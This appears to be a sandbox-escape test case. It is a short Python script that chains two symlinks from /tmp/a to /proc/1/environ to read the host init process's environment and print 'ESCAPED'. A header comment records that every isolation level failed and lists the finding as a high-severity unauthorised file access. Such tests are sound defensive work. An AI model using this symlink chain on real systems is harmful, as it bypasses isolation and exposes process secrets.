# maximum=failed strict=failed standard=failed! minimal=failed!; UnauthorizedFileAccess High read "/tmp/a" → "/proc/1/environ"; reaches the host through a chain of links
import os
os.symlink("b", "/tmp/a")
os.symlink("../proc/1/environ", "/tmp/b")
print(open("/tmp/a").read(), "ESCAPED")
